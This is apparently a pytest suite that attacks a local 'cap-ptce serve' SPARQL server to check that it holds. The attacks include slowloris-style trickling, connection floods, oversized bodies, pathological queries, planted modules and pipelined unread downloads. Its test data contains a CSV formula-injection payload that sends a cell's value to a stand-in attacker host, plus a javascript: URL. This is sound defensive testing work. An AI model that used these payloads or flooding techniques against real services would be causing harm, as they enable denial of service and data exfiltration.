"""Attacks on a live ``cap-ptce serve``, as the operator of a public endpoint fears them.

Each test starts (or shares) a real ``cap-ptce serve`` on 127.0.0.1 and a free
port, reproduces one attack with real sockets, and checks that the server held:
idle and trickling connections, a huge body, too many requests from one
client, queries that crashed the engine, a module planted where the server
runs. Source addresses 127.0.0.2… stand for distinct clients (all of 127/8 is
the loopback on Linux).
"""

from __future__ import annotations

import json
import os
import select
import socket
import threading
import time
from pathlib import Path

import pytest
import requests
from waitress.server import create_server

from servehelpers import cap_ptce_serve, session_from

pytestmark = pytest.mark.slow

IDLE = 3  # IDLE_TIMEOUT and REQUEST_TIMEOUT given to the server, in seconds
ASK = {"query": "ASK { ?s ?p ?o }"}


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("serve")
    (tmp / "tmp").mkdir()
    settings = [f"IDLE_TIMEOUT={IDLE}", f"REQUEST_TIMEOUT={IDLE}", "REQUESTS_PER_CLIENT=3", "QUERY_TIMEOUT=3"]
    with cap_ptce_serve(
        tmp, *(arg for s in settings for arg in ("--set", s)), env={"TMPDIR": str(tmp / "tmp")}
    ) as live:
        yield live


def connect(port: int, source: str = "127.0.0.1") -> socket.socket:
    conn = socket.socket()
    conn.bind((source, 0))
    conn.settimeout(30)
    conn.connect(("127.0.0.1", port))
    return conn


def closed_within(conn: socket.socket, seconds: float) -> float | None:
    """Seconds until the server closed ``conn`` (what it sent before is read and dropped), or None."""
    started = time.monotonic()
    conn.settimeout(0.2)
    while time.monotonic() - started < seconds:
        try:
            if conn.recv(65536) == b"":
                return time.monotonic() - started
        except TimeoutError:
            continue
        except ConnectionResetError:
            return time.monotonic() - started
    return None


def timed_ask(base: str, source: str = "127.0.0.1") -> tuple[float, requests.Response]:
    session = session_from(source)
    started = time.monotonic()
    response = session.get(base + "/sparql", params=ASK, timeout=30)
    return time.monotonic() - started, response


# --- connections ------------------------------------------------------------------------------


def test_150_idle_connections_leave_a_new_client_answered_before_any_of_them_times_out(server):
    """The stock server went offline at about 100 idle connections; a new client here is answered at once, not
    after an idle one is closed (IDLE seconds). The bound leaves a busy machine room (1.2 s seen with the suite
    and two browsers running beside it; 0.46 s on a quiet one)."""
    idle = [connect(server.port, f"127.0.0.{2 + index // 25}") for index in range(150)]  # 6 clients × 25
    try:
        time.sleep(0.5)
        seconds, response = timed_ask(server.url, "127.0.1.1")
        assert response.status_code == 200 and response.json()["boolean"] is True
        assert seconds < IDLE - 1, f"a new client waited {seconds:.2f} s"
        closed = [closed_within(conn, IDLE + 3) for conn in idle[:10]]
        assert all(after is not None for after in closed), "idle connections were kept open"
    finally:
        for conn in idle:
            conn.close()


def test_one_client_holds_no_more_connections_than_its_share(server):
    mine = [connect(server.port, "127.0.2.1") for _ in range(40)]
    try:
        readable: list = []
        deadline = time.monotonic() + IDLE - 0.5  # within IDLE: the connections within the share stay open and silent
        while len(readable) < 40 - 32 and time.monotonic() < deadline:  # a loaded machine answers late
            readable, _, _ = select.select(mine, [], [], 0.1)
        refused = [conn.recv(4096) for conn in readable]
        assert len(refused) == 40 - 32  # CONNECTIONS_PER_CLIENT
        assert all(answer.startswith(b"HTTP/1.1 429") and b"Retry-After" in answer for answer in refused)
        assert all(b"X-Content-Type-Options: nosniff" in answer for answer in refused)
        seconds, response = timed_ask(server.url, "127.0.2.2")
        assert response.status_code == 200 and seconds < 1.0
    finally:
        for conn in mine:
            conn.close()


def test_a_client_trickling_a_byte_a_second_is_cut_off(server):
    conn = connect(server.port, "127.0.3.1")
    request = b"GET /sparql?query=ASK%20%7B%7D HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 100
    started = time.monotonic()
    conn.settimeout(1)
    try:
        for byte in request:
            conn.send(bytes([byte]))
            time.sleep(1)
            if time.monotonic() - started > IDLE + 5:
                break
        else:
            pytest.fail("the server read the whole trickled request")
        assert closed_within(conn, 3) is not None
    except (BrokenPipeError, ConnectionResetError):
        pass  # closed while we were sending: what we want
    finally:
        conn.close()
    assert time.monotonic() - started < IDLE + 8


# --- bodies -----------------------------------------------------------------------------------


def open_files_under(pid: int, folder: Path) -> list[str]:
    """Files under ``folder`` that the process has open (spooled bodies are unlinked: only /proc shows them)."""
    found = []
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = os.readlink(fd)
        except OSError:
            continue
        if target.startswith(str(folder)):
            found.append(target)
    return found


def spooled_under(pid: int, folder: Path) -> list[str]:
    """The files ``pid`` has open under ``folder`` but those the server keeps there on purpose and holds open (its
    copy of the store for its workers, its downloads' folder): a spooled body is neither."""
    own = ("cap-ptce-snapshot-", "cap-ptce-downloads-")
    first = lambda path: (Path(path).relative_to(folder).parts or ("",))[0]  # noqa: E731
    return [path for path in open_files_under(pid, folder) if not first(path).startswith(own)]


def send_body(port: int, headers: bytes, chunks, watch) -> tuple[bytes, list[str]]:
    """Send ``headers`` then ``chunks`` until the server answers or stops reading; (answer, files seen)."""
    conn = connect(port, "127.0.4.1")
    seen: list[str] = []
    conn.sendall(headers)
    answer = b""
    try:
        for chunk in chunks:
            seen += watch()
            conn.settimeout(0.05)  # a quick look for an answer between chunks
            try:
                answer += conn.recv(65536)
            except TimeoutError:
                pass
            if answer:
                break
            # A megabyte may wait a moment for a server busy drawing its pages as it starts (the thread
            # that draws them held Python's lock up to 0.3 s at a time with the register loaded): the
            # server must read it or answer, not within 50 ms.
            conn.settimeout(5)
            try:
                conn.sendall(chunk)
            except (BrokenPipeError, ConnectionResetError):
                break
        conn.settimeout(5)
        try:
            answer += conn.recv(65536)
        except (TimeoutError, ConnectionResetError):
            pass
    finally:
        conn.close()
    return answer, seen + watch()


MEGABYTE = b"x" * 2**20


def test_a_200_megabyte_body_is_refused_before_it_is_read_and_nothing_goes_to_disk(server):
    folder = Path(server.log).parent / "tmp"  # the server's TMPDIR
    before = set(folder.iterdir())  # the workers' copy of the memory store is there
    headers = (
        b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n"
        b"Content-Length: 200000000\r\n\r\n"
    )
    started = time.monotonic()
    answer, seen = send_body(
        server.port, headers, (MEGABYTE for _ in range(200)), lambda: spooled_under(server.process.pid, folder)
    )
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert time.monotonic() - started < 10
    assert seen == [] and set(folder.iterdir()) == before, f"spooled to disk: {seen}"


def test_a_chunked_body_is_refused_as_it_passes_the_limit_and_nothing_goes_to_disk(server):
    folder = Path(server.log).parent / "tmp"
    headers = (
        b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n"
    )
    chunk = b"%x\r\n%s\r\n" % (len(MEGABYTE), MEGABYTE)
    answer, seen = send_body(
        server.port, headers, (chunk for _ in range(200)), lambda: spooled_under(server.process.pid, folder)
    )
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert seen == []


def raw_answer(port: int, sent: bytes) -> tuple[int, dict[str, str], bytes]:
    """Send ``sent`` on a new connection; the status, headers and body of the answer (read until closed)."""
    with connect(port) as conn:
        conn.sendall(sent)
        received = b""
        try:
            while chunk := conn.recv(65536):
                received += chunk
        except ConnectionResetError:  # closed with the rest of a refused request unread: the answer came first
            pass
    head, _, body = received.partition(b"\r\n\r\n")
    status, *lines = head.decode("latin-1").split("\r\n")
    return int(status.split()[1]), dict(line.split(": ", 1) for line in lines), body


@pytest.mark.parametrize(
    "sent, status, says",
    [
        (b"POST /valider HTTP/1.1\r\nHost: x\r\nContent-Length: 5000000\r\n\r\n", 413, "1000000 octets"),
        (b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: " + b"a" * 300_000 + b"\r\n\r\n", 431, "262144 octets"),
        (b"GET / HTTP/1.1\r\nHost: x\r\nno colon here\r\n\r\n", 400, "mal formée"),
    ],
    ids=["body", "headers", "malformed"],
)
def test_the_servers_own_refusals_speak_as_the_app_does(server, sent, status, says):
    from cap_ptce.publish.headers import SECURITY_HEADERS

    code, headers, body = raw_answer(server.port, sent)
    assert code == status
    assert headers["Content-Type"] == "application/json; charset=utf-8"
    assert {name: headers.get(name) for name in SECURITY_HEADERS} == SECURITY_HEADERS
    error = json.loads(body)
    french, english = error["message"].split(" / ")
    assert says in french and "generated by" not in english, error
    assert error["error"] and "max_body" not in error["message"]


@pytest.mark.parametrize(("path", "first", "says"), [("/editeur", "fr", "Précédent"), ("/validate", "en", "Back")])
def test_a_browser_sending_too_large_a_form_gets_a_page_not_json(server, path, first, says):
    """A carrier opening a file over the limit in the form saw the raw JSON of the server's refusal in place of
    the page. A browser (Accept: text/html) gets a page in the route's language first, that says what counts and
    how to get back to what they had typed."""
    from cap_ptce.publish.headers import SECURITY_HEADERS

    accept = b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
    sent = (
        b"POST " + path.encode() + b" HTTP/1.1\r\nHost: x\r\nAccept: " + accept + b"\r\nContent-Length: 5000000\r\n\r\n"
    )
    code, headers, body = raw_answer(server.port, sent)
    page = body.decode("utf-8")
    assert code == 413 and headers["Content-Type"] == "text/html; charset=utf-8"
    assert {name: headers.get(name) for name in SECURITY_HEADERS} == SECURITY_HEADERS
    assert page.startswith("<!doctype html>") and f'<html lang="{first}">' in page
    assert says in page and "1 Mo" in page and "1 MB" in page and "MAX_REQUEST_BYTES" not in page


def test_a_long_accept_on_too_large_a_body_is_not_read_and_holds_no_one(server):
    """An operator's finding: a 150 kB Accept on a refused body took 40 s to read (werkzeug's reading grows with the
    square of its length), and every other request waited. It is not read: the JSON refusal, at once."""
    accept = b"text/html" + b" " * 150_000 + b"x"
    sent = b"POST /editeur HTTP/1.1\r\nHost: x\r\nAccept: " + accept + b"\r\nContent-Length: 5000000\r\n\r\n"
    started = time.monotonic()
    code, headers, _body = raw_answer(server.port, sent)
    assert code == 413 and headers["Content-Type"].startswith("application/json") and headers["Vary"] == "Accept"
    assert time.monotonic() - started < IDLE - 1


def test_the_stock_server_did_spool_such_a_body_to_disk(tmp_path, monkeypatch):
    """The check above can see a spooled body: waitress's defaults write this one to a temporary file."""
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    server = create_server(lambda environ, start: [], host="127.0.0.1", port=0, threads=1)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        headers = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 200000000\r\n\r\n"
        _answer, seen = send_body(
            int(server.effective_port),
            headers,
            (MEGABYTE for _ in range(20)),
            lambda: open_files_under(os.getpid(), tmp_path),
        )
        assert seen, "waitress's defaults keep 20 MB of body in a temporary file"
    finally:
        server.close()


# --- requests and queries ---------------------------------------------------------------------

CROSS_PRODUCT = "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"


def test_one_client_runs_no_more_requests_than_its_share_and_others_are_served(server):
    session = session_from("127.0.5.1")
    answers: list = []

    def slow() -> None:
        other = session_from("127.0.5.1")
        answers.append(other.get(server.url + "/sparql", params={"query": CROSS_PRODUCT}, timeout=60))

    threads = [threading.Thread(target=slow) for _ in range(3)]  # one runs, two wait for its slot
    for thread in threads:
        thread.start()
    time.sleep(1)
    refused = session.get(server.url + "/sparql", params=ASK, timeout=30)
    assert refused.status_code == 429 and refused.headers["Retry-After"]
    assert refused.json()["error"] == "TooManyRequests"
    seconds, response = timed_ask(server.url, "127.0.5.2")
    assert response.status_code == 200 and seconds < 1.0
    for thread in threads:
        thread.join(60)
    statuses = [answer.status_code for answer in answers]
    assert 503 in statuses and set(statuses) <= {429, 503}, statuses  # stopped at the limit, or its slot stayed taken


@pytest.mark.parametrize(
    "query, error",
    [
        ("SELECT (" + "+".join(["1"] * 7000) + " AS ?x) {}", "QueryTooComplexError"),
        ("SELECT (" + "+".join(["1"] * 450_000) + " AS ?x) {}", "QueryTooComplexError"),
        ("SELECT (" + "STR(" * 2000 + "1" + ")" * 2000 + " AS ?x) {}", "QueryTooComplexError"),
        ("SELECT * { BIND(1 AS ?a) " + "OPTIONAL { BIND(2 AS ?b) } " * 3000 + "}", "QueryTooComplexError"),
        ("SELECT (<http://example.org/f>(1) AS ?x) {}", "UnknownFunctionError"),
    ],
    ids=["7000-additions", "a-megabyte-of-additions", "2000-nested-calls", "3000-optionals", "unknown-function"],
)
def test_queries_that_crashed_the_engine_are_client_errors(server, query, error):
    session = session_from("127.0.6.1")
    response = session.post(
        server.url + "/sparql", data=query.encode(), headers={"Content-Type": "application/sparql-query"}, timeout=30
    )
    assert response.status_code == 400, response.text[:300]
    assert response.json()["error"] == error
    assert server.process.poll() is None
    assert session.get(server.url + "/sparql", params=ASK, timeout=30).json()["boolean"] is True


PLANTED = "import pathlib\npathlib.Path({marker!r}).write_text('ran')\n"


def test_a_module_planted_where_serve_runs_never_runs(tmp_path):
    marker = tmp_path / "planted-module-ran"
    planted = tmp_path / "folder"
    for name in ("multiprocessing", "pyoxigraph", "socket"):
        (planted / name).mkdir(parents=True)
        (planted / name / "__init__.py").write_text(PLANTED.format(marker=str(marker)), encoding="utf-8")
    with cap_ptce_serve(tmp_path, cwd=planted) as live:
        for _ in range(3):
            response = requests.post(
                live.url + "/sparql", data={"query": "SELECT (COUNT(*) AS ?n) { ?s ?p ?o }"}, timeout=30
            )
            assert response.status_code == 200
    assert not marker.exists(), "a module planted in the folder of cap-ptce serve ran"


# --- safe output ------------------------------------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://attaquant.example/?v="&A1;"cliquez")'


def hostile_corpus(folder: Path) -> Path:
    """The sample description of Bâtir circulaire with a javascript: web address and a formula for a name."""
    from cap_ptce.resources import data_dir

    folder.mkdir(parents=True, exist_ok=True)
    text = (data_dir("corpus") / "batir-circulaire-lyon.yaml").read_text(encoding="utf-8")
    text = text.replace(
        'site_web: "https://batir-circulaire.example.org/"', 'site_web: "javascript:alert(document.domain)"'
    )
    text = text.replace(
        'nom: "Bâtir circulaire — pôle du réemploi dans le bâtiment lyonnais"', f"nom: '{HOSTILE_NAME}'"
    )
    (folder / "batir-circulaire-lyon.yaml").write_text(text, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    with cap_ptce_serve(tmp, "--corpus", str(hostile_corpus(tmp / "corpus"))) as live:
        yield live


PROJECT_PAGE = "/projet/batir-circulaire-lyon.fr.html"


def test_a_javascript_web_address_is_shown_but_never_linked(hostile_server):
    page = requests.get(hostile_server.url + PROJECT_PAGE, timeout=60)
    assert page.status_code == 200
    assert "javascript:alert(document.domain)" in page.text  # shown as text…
    assert 'href="javascript:' not in page.text.lower()  # …never as a link
    assert 'href="https://' in page.text  # http(s) links still are


def test_every_answer_carries_the_security_headers(hostile_server):
    from cap_ptce.publish.headers import SECURITY_HEADERS

    for path, accept in (
        (PROJECT_PAGE, "text/html"),
        ("/projet/batir-circulaire-lyon", "text/turtle"),  # a 303
        ("/sparql?query=ASK%7B%7D", "application/sparql-results+json"),
        ("/nulle-part", "text/html"),  # a 404 page
        ("/nulle-part", "application/json"),
        ("/static/style.css", "text/css"),
        ("/requetes", "text/html"),
    ):
        response = requests.get(
            hostile_server.url + path, headers={"Accept": accept}, allow_redirects=False, timeout=60
        )
        for name, value in SECURITY_HEADERS.items():
            assert response.headers.get(name) == value, (path, name)
        assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]


NAMES = "SELECT ?nom { ?p a <https://w3id.org/cap-ptce/def#Project> ; <https://schema.org/name> ?nom }"


def test_a_csv_cell_that_is_a_formula_is_neutralised_and_raw_on_request(hostile_server):
    response = requests.get(hostile_server.url + "/sparql", params={"query": NAMES, "format": "csv"}, timeout=60)
    assert response.status_code == 200 and response.headers["Content-Disposition"].startswith("attachment")
    cells = response.text.splitlines()[1:]
    assert cells and all(not cell.startswith(("=", '"=')) for cell in cells)
    assert any(cell.lstrip('"').startswith("'=HYPERLINK") for cell in cells), cells
    raw = requests.get(
        hostile_server.url + "/sparql", params={"query": NAMES, "format": "csv", "raw": "true"}, timeout=60
    )
    assert any(cell.lstrip('"').startswith("=HYPERLINK") for cell in raw.text.splitlines()[1:])


def test_a_ready_made_querys_csv_is_a_neutralised_attachment(hostile_server):
    response = requests.get(hostile_server.url + "/requetes/couverture-par-projet.csv", timeout=60)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="couverture-par-projet.csv"'
    assert "'=HYPERLINK" in response.text
    assert not any(cell.startswith("=") for line in response.text.splitlines() for cell in line.split(","))


def test_downloads_are_attachments(hostile_server):
    response = requests.get(hostile_server.url + "/telechargements/grille.ttl", timeout=60)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="grille.ttl"'


def test_the_static_site_and_the_html_report_link_no_javascript(tmp_path):
    from cap_ptce.cli import main

    corpus = hostile_corpus(tmp_path / "corpus")
    assert main(["publish", str(tmp_path / "site"), "--corpus", str(corpus)]) == 0
    pages = list((tmp_path / "site").rglob("*.html"))
    assert pages and not [page for page in pages if 'href="javascript:' in page.read_text(encoding="utf-8").lower()]
    project = (tmp_path / "site" / "projet" / "batir-circulaire-lyon.fr.html").read_text(encoding="utf-8")
    assert "javascript:alert(document.domain)" in project
    report = tmp_path / "rapport.html"
    main(["validate", str(corpus / "batir-circulaire-lyon.yaml"), "--format", "html", "-o", str(report)])
    assert 'href="javascript:' not in report.read_text(encoding="utf-8").lower()


# --- a crowd on the pages -------------------------------------------------------------------


@pytest.fixture(scope="module")
def crowd_server(tmp_path_factory):
    """cap-ptce serve on 300 generated descriptions, pages not drawn in advance (the worst case)."""
    from cap_ptce.cli import main

    tmp = tmp_path_factory.mktemp("crowd")
    assert main(["generate", "300", "--seed", "3", "-o", str(tmp / "corpus")]) == 0
    assert main(["load", str(tmp / "corpus"), "--store", str(tmp / "store"), "--no-validate"]) == 0
    with cap_ptce_serve(tmp, "--store", str(tmp / "store"), "--set", "WARM_PAGES=false") as live:
        yield live


def test_a_crowd_on_project_pages_does_not_hold_up_the_endpoint(crowd_server):
    import re

    listing = requests.get(crowd_server.url + "/projet.fr.html", timeout=60).text
    projects = re.findall(r'href="projet/([a-z0-9-]+)\.fr\.html"', listing)
    assert len(projects) == 300
    answers: list = []

    def visit(index: int) -> None:
        visitor = session_from(f"127.2.{index // 200}.{index % 200 + 1}")
        answers.append(visitor.get(f"{crowd_server.url}/projet/{projects[index]}.en.html", timeout=120).status_code)

    crowd = [threading.Thread(target=visit, args=(index,)) for index in range(200)]
    for visitor in crowd:
        visitor.start()
    time.sleep(0.5)
    waits = []
    for _ in range(5):  # while the crowd is at the door
        seconds, response = timed_ask(crowd_server.url, "127.0.11.1")
        assert response.status_code == 200
        waits.append(seconds)
        time.sleep(0.2)
    for visitor in crowd:
        visitor.join(180)
    # Before the page cache, every ASK waited behind the crowd (19 s); now a typical one is answered at once.
    # One of five may meet a burst of the 200 visitor threads on a busy 2-core machine (1.08 s seen in CI).
    assert sorted(waits)[2] < 1.0 and max(waits) < 5.0, waits
    assert set(answers) <= {200, 503} and answers.count(200) >= 100, answers
    started = time.monotonic()
    with requests.Session() as visitor:
        again = [visitor.get(f"{crowd_server.url}/projet/{p}.en.html", timeout=60) for p in projects[:50]]
    assert all(page.status_code == 200 for page in again)
    assert (time.monotonic() - started) / 50 < 0.2  # drawn once: now from memory


@pytest.fixture(scope="module")
def few_threads_server(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("serve-few-threads")
    settings = ["SERVER_THREADS=2", f"IDLE_TIMEOUT={IDLE}", "WARM_PAGES=false"]
    with cap_ptce_serve(tmp, *(arg for s in settings for arg in ("--set", s))) as live:
        yield live


def test_clients_that_never_read_their_downloads_hold_no_thread_past_the_idle_timeout(few_threads_server):
    """An operator's attack of 2026-12-07: 4 addresses × 8 connections, each sending 20 pipelined requests for
    the dataset's N-Quads and reading none: every page timed out for as long as they held on (6 minutes). A
    thread writing to a client that reads nothing waits for room; the connection is now closed once it has
    read nothing for IDLE_TIMEOUT, which frees the thread."""
    base = few_threads_server.url
    assert requests.get(base + "/telechargements/cap-ptce.nq", timeout=120).status_code == 200  # made once
    pipelined = b"GET /telechargements/cap-ptce.nq HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 20
    attackers = []
    for index in range(2):  # as many as the server's threads
        conn = socket.socket()
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # reads nothing: the server's sends stall
        conn.bind((f"127.0.5.{index + 1}", 0))
        conn.connect(("127.0.0.1", few_threads_server.port))
        conn.sendall(pipelined)
        attackers.append(conn)
    try:
        time.sleep(1)  # both threads now wait for room to write
        started = time.monotonic()
        page = session_from("127.0.6.1").get(base + "/grille/question/q01.fr.html", timeout=60)
        waited = time.monotonic() - started
        assert page.status_code == 200
        assert waited < IDLE + 8, f"a page waited {waited:.1f} s behind clients that read nothing"
        assert all(closed_within(conn, IDLE + 8) is not None for conn in attackers)
    finally:
        for conn in attackers:
            conn.close()
